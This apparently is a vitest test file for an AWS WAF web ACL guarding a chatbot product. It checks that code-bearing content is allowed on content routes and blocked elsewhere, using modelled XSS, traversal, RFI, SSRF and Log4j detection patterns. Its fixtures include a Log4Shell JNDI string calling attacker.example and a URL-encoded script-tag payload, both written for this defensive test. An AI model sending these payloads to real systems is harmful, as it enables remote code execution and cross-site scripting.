// The web ACL's verdict on realistic requests: an owner pasting an HTML/JS snippet or a long
// Markdown runbook as a source, visitors asking questions that contain code, and the same bodies
// sent to routes that take no content. The synthesized rules are evaluated in priority order as
// WAF evaluates them (terminating block, labels for later rules). The AWS managed rules themselves
// cannot run here: each body rule is modelled by what AWS documents it looks for, and the test is
// about what the ACL does with their verdicts.
import { beforeAll, describe, expect, it } from 'vitest';
import { bodyRules, contentRoutes, countOnlyLabels, pathPattern } from '../../infra/edge-stack.ts';
import { routes } from '../../lambdas/http/routes.ts';
import { buildParleyApp, edgeTemplateOf } from './fixtures/parley-app.ts';

interface Request {
  readonly method: string;
  readonly path: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly query?: string;
  readonly body?: string;
}

type Statement = Record<string, unknown>;
interface Rule {
  Name: string;
  Priority: number;
  Action?: Record<string, unknown>;
  OverrideAction?: Record<string, unknown>;
  Statement: Statement;
}

/** A managed rule, modelled by the patterns AWS's documentation gives as examples. */
interface ModelledRule {
  readonly rule: string;
  readonly label: string;
  readonly matches: (r: Request) => boolean;
}
const xss = /<script\b|\bon[a-z]+\s*=|javascript:/i;
const modelled: Record<string, readonly ModelledRule[]> = {
  AWSManagedRulesCommonRuleSet: [
    { rule: 'NoUserAgent_HEADER', label: 'awswaf:managed:aws:core-rule-set:NoUserAgent_Header', matches: (r) => !r.headers?.['user-agent'] },
    { rule: 'CrossSiteScripting_QUERYARGUMENTS', label: 'awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments', matches: (r) => xss.test(decodeURIComponent(r.query ?? '')) },
    { rule: 'SizeRestrictions_BODY', label: 'awswaf:managed:aws:core-rule-set:SizeRestrictions_Body', matches: (r) => Buffer.byteLength(r.body ?? '') > 8192 },
    { rule: 'CrossSiteScripting_BODY', label: 'awswaf:managed:aws:core-rule-set:CrossSiteScripting_Body', matches: (r) => xss.test(r.body ?? '') },
    { rule: 'GenericLFI_BODY', label: 'awswaf:managed:aws:core-rule-set:GenericLFI_Body', matches: (r) => /\.\.\//.test(r.body ?? '') },
    { rule: 'GenericRFI_BODY', label: 'awswaf:managed:aws:core-rule-set:GenericRFI_Body', matches: (r) => /(https?|ftps?|file):\/\/\d{1,3}(\.\d{1,3}){3}/.test(r.body ?? '') },
    { rule: 'EC2MetaDataSSRF_BODY', label: 'awswaf:managed:aws:core-rule-set:EC2MetaDataSSRF_Body', matches: (r) => (r.body ?? '').includes('169.254.169.254') },
  ],
  AWSManagedRulesKnownBadInputsRuleSet: [
    { rule: 'Log4JRCE_BODY', label: 'awswaf:managed:aws:known-bad-inputs:Log4JRCE_Body', matches: (r) => /\$\{jndi:/i.test(r.body ?? '') },
    { rule: 'Host_localhost_HEADER', label: 'awswaf:managed:aws:known-bad-inputs:Host_Localhost_Header', matches: (r) => r.headers?.host === 'localhost' },
  ],
  AWSManagedRulesAmazonIpReputationList: [],
};

const field = (r: Request, fieldToMatch: Record<string, unknown>): string => {
  if ('Method' in fieldToMatch) return r.method;
  if ('UriPath' in fieldToMatch) return r.path;
  throw new Error(`no model for field ${JSON.stringify(fieldToMatch)}`);
};

/** Whether a statement matches, given the labels earlier rules added. */
const matches = (s: Statement, r: Request, labels: ReadonlySet<string>): boolean => {
  const [[kind, body]] = Object.entries(s) as [[string, Record<string, unknown>]];
  switch (kind) {
    case 'AndStatement': return (body.Statements as Statement[]).every((x) => matches(x, r, labels));
    case 'OrStatement': return (body.Statements as Statement[]).some((x) => matches(x, r, labels));
    case 'NotStatement': return !matches(body.Statement as Statement, r, labels);
    case 'LabelMatchStatement': {
      expect(body.Scope).toBe('LABEL');
      return labels.has(body.Key as string);
    }
    case 'ByteMatchStatement': {
      const value = field(r, body.FieldToMatch as Record<string, unknown>);
      const search = body.SearchString as string;
      switch (body.PositionalConstraint) {
        case 'EXACTLY': return value === search;
        case 'STARTS_WITH': return value.startsWith(search);
        case 'ENDS_WITH': return value.endsWith(search);
        case 'CONTAINS': return value.includes(search);
        default: throw new Error(`no model for ${String(body.PositionalConstraint)}`);
      }
    }
    case 'RegexMatchStatement': return new RegExp(body.RegexString as string).test(field(r, body.FieldToMatch as Record<string, unknown>));
    default: throw new Error(`no model for ${kind}`);
  }
};

interface Verdict {
  readonly action: 'allow' | 'block';
  readonly by?: string;
  readonly labels: readonly string[];
}

/** WAF's evaluation of one request by an ACL's rules: priority order, first block ends it, default allow. */
const evaluate = (rules: readonly Rule[], r: Request): Verdict => {
  const labels = new Set<string>();
  for (const rule of [...rules].sort((a, b) => a.Priority - b.Priority)) {
    if ('RateBasedStatement' in rule.Statement) continue; // one request is never over a rate
    const group = rule.Statement.ManagedRuleGroupStatement as { Name: string; RuleActionOverrides?: { Name: string; ActionToUse: Record<string, unknown> }[] } | undefined;
    if (group) {
      expect(rule.OverrideAction).toEqual({ None: {} });
      for (const m of modelled[group.Name] ?? []) {
        if (!m.matches(r)) continue;
        labels.add(m.label);
        const override = group.RuleActionOverrides?.find((o) => o.Name === m.rule);
        if (!override) return { action: 'block', by: `${group.Name}:${m.rule}`, labels: [...labels] };
        expect(override.ActionToUse).toEqual({ Count: {} });
      }
      continue;
    }
    if (matches(rule.Statement, r, labels) && rule.Action && 'Block' in rule.Action) return { action: 'block', by: rule.Name, labels: [...labels] };
  }
  return { action: 'allow', labels: [...labels] };
};

const browser = { 'user-agent': 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15', host: 'chat.example.com' };
const json = (value: unknown) => JSON.stringify(value);

/** An owner pastes the widget's embed snippet into a source, to answer "how do I install it?". */
const embedSnippet = json({
  kind: 'text',
  title: 'Installing the chat on your site',
  text: 'Paste this before </body>:\n\n<script src="https://chat.example.com/widget.js" data-bot="pub_8f2k" async></script>\n' +
    '<button onclick="Parley.open()">Chat with us</button>\n\nTo open it from a link use <a href="javascript:Parley.open()">Help</a>.',
});

/** A visitor asks about their own code. */
const codeQuestion = json({
  question: 'My image fallback never runs: <img src="logo.png" onerror="this.src=\'../img/fallback.png\'"> — what is wrong? ' +
    'I also tried el.addEventListener("error", () => fetch("../api/log"))',
});

/** A long internal runbook in Markdown, with paths, private addresses and the metadata endpoint it warns about. */
const runbook = json({
  kind: 'text',
  title: 'Operations runbook',
  text: Array.from({ length: 40 }, (_, i) => [
    `## Step ${i + 1}: check service ${i + 1}`,
    'Go to the deploy folder with `cd ../../deploy` and check the health endpoint:',
    '```sh\ncurl -s http://10.0.12.7:8080/health\n```',
    'Never let an application fetch http://169.254.169.254/latest/meta-data/ on a visitor\'s behalf.',
  ].join('\n\n')).join('\n\n'),
});

/** A question quoting the Log4Shell string, asked of a security FAQ bot. */
const log4jQuestion = json({ question: 'Is your product affected if a log line contains ${jndi:ldap://attacker.example/a}?' });

let rules: Rule[];

beforeAll(() => {
  const parley = buildParleyApp();
  const acl = Object.values(edgeTemplateOf(parley).findResources('AWS::WAFv2::WebACL'))[0] as { Properties: { Rules: Rule[] } };
  rules = acl.Properties.Rules;
}, 120_000);

describe('WAF on content', () => {
  it('has realistic bodies: the runbook is over 8 KB and each trips the body rules it is meant to', () => {
    expect(Buffer.byteLength(runbook)).toBeGreaterThan(8192);
    expect(evaluate(rules, { method: 'POST', path: '/v1/bots/b1/sources', headers: browser, body: runbook }).labels).toEqual(expect.arrayContaining([
      'awswaf:managed:aws:core-rule-set:SizeRestrictions_Body', 'awswaf:managed:aws:core-rule-set:GenericLFI_Body',
      'awswaf:managed:aws:core-rule-set:GenericRFI_Body', 'awswaf:managed:aws:core-rule-set:EC2MetaDataSSRF_Body',
    ]));
    expect(evaluate(rules, { method: 'POST', path: '/v1/bots/b1/sources', headers: browser, body: embedSnippet }).labels).toContain('awswaf:managed:aws:core-rule-set:CrossSiteScripting_Body');
  });

  it('lets an owner paste an HTML/JS snippet or a long runbook as a source, and edit a bot', () => {
    for (const body of [embedSnippet, runbook]) {
      expect(evaluate(rules, { method: 'POST', path: '/v1/bots/b1/sources', headers: browser, body }).action).toBe('allow');
    }
    expect(evaluate(rules, { method: 'PATCH', path: '/v1/bots/b1', headers: browser, body: json({ instructions: 'Format code as <pre>…</pre>; never suggest onclick= handlers.' }) }).action).toBe('allow');
  });

  it('lets visitors ask questions that contain code, and write it in a handoff, lead or feedback', () => {
    for (const body of [codeQuestion, log4jQuestion]) {
      expect(evaluate(rules, { method: 'POST', path: '/widget/v1/pub_8f2k/chat', headers: browser, body }), body).toMatchObject({ action: 'allow' });
    }
    for (const route of ['handoff', 'lead', 'feedback']) {
      expect(evaluate(rules, { method: 'POST', path: `/widget/v1/pub_8f2k/${route}`, headers: browser, body: codeQuestion }).action, route).toBe('allow');
    }
  });

  it('still blocks the same bodies on routes that take no content, and near-misses of the content routes', () => {
    const blocked = (r: Request) => expect(evaluate(rules, r), `${r.method} ${r.path}`).toMatchObject({ action: 'block', by: 'ContentAwareBodyRules' });
    blocked({ method: 'POST', path: '/v1/members', headers: browser, body: codeQuestion });
    blocked({ method: 'PATCH', path: '/v1/account', headers: browser, body: embedSnippet });
    blocked({ method: 'POST', path: '/widget/v1/pub_8f2k/sessions', headers: browser, body: log4jQuestion });
    blocked({ method: 'PUT', path: '/v1/keys/openai', headers: browser, body: runbook });
    // The right path with another method, and paths that only start or end like a content route.
    blocked({ method: 'DELETE', path: '/v1/bots/b1', headers: browser, body: embedSnippet });
    blocked({ method: 'POST', path: '/v1/bots/b1/sources/extra', headers: browser, body: embedSnippet });
    blocked({ method: 'POST', path: '/v1/bots/b1/documents/d1/sources', headers: browser, body: embedSnippet });
    blocked({ method: 'POST', path: '/x/widget/v1/pub_8f2k/chat', headers: browser, body: codeQuestion });
  });

  it('lets a long body through anywhere (the API enforces its own limits), and keeps every other managed rule blocking on content routes', () => {
    const long = json({ name: 'x'.repeat(9000) });
    expect(evaluate(rules, { method: 'PATCH', path: '/v1/account', headers: browser, body: long })).toMatchObject({ action: 'allow', labels: ['awswaf:managed:aws:core-rule-set:SizeRestrictions_Body'] });
    expect(evaluate(rules, { method: 'POST', path: '/widget/v1/pub_8f2k/chat', headers: {}, body: codeQuestion }))
      .toMatchObject({ action: 'block', by: 'AWSManagedRulesCommonRuleSet:NoUserAgent_HEADER' });
    expect(evaluate(rules, { method: 'POST', path: '/widget/v1/pub_8f2k/chat', headers: browser, query: 'q=%3Cscript%3Ealert(1)%3C%2Fscript%3E', body: codeQuestion }))
      .toMatchObject({ action: 'block', by: 'AWSManagedRulesCommonRuleSet:CrossSiteScripting_QUERYARGUMENTS' });
    expect(evaluate(rules, { method: 'POST', path: '/v1/bots/b1/sources', headers: { ...browser, host: 'localhost' }, body: embedSnippet }))
      .toMatchObject({ action: 'block', by: 'AWSManagedRulesKnownBadInputsRuleSet:Host_localhost_HEADER' });
  });

  it('counts exactly the documented body rules, and decides on their labels after the managed groups ran', () => {
    for (const [group, overridden] of Object.entries(bodyRules)) {
      const rule = rules.find((r) => r.Name === group)!;
      const overrides = (rule.Statement.ManagedRuleGroupStatement as { RuleActionOverrides: { Name: string }[] }).RuleActionOverrides;
      expect(overrides.map((o) => o.Name).sort(), group).toEqual(Object.keys(overridden).sort());
    }
    const decider = rules.find((r) => r.Name === 'ContentAwareBodyRules')!;
    const managed = rules.filter((r) => r.Statement.ManagedRuleGroupStatement);
    for (const group of managed) expect(group.Priority).toBeLessThan(decider.Priority);
    const keys = JSON.stringify(decider.Statement).match(/awswaf:managed:[^"]+/g)!;
    const expected = Object.values(bodyRules).flatMap((labels) => Object.values(labels)).filter((l) => !countOnlyLabels.includes(l));
    expect(keys.sort()).toEqual(expected.sort());
  });

  it('exempts only real routes, matched by method and whole path', () => {
    for (const route of contentRoutes) expect(routes.some((r) => r.method === route.method && r.path === route.path), route.path).toBe(true);
    expect(pathPattern('/v1/bots/{botId}/sources')).toBe('^/v1/bots/[^/]+/sources$');
  });
});
